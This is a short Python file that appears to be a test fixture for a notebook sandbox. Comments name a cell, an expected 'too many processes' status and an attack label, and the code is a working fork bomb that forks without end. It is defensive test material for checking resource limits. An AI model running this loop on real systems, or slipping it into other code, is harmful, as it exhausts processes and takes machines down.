# cell: two-layer-net
# loses: two-layer-net-tests
# status: ok
# message: Cell two-layer-net started too many processes or threads
# attack: forks until no process is left
import os

while True:
    os.fork()
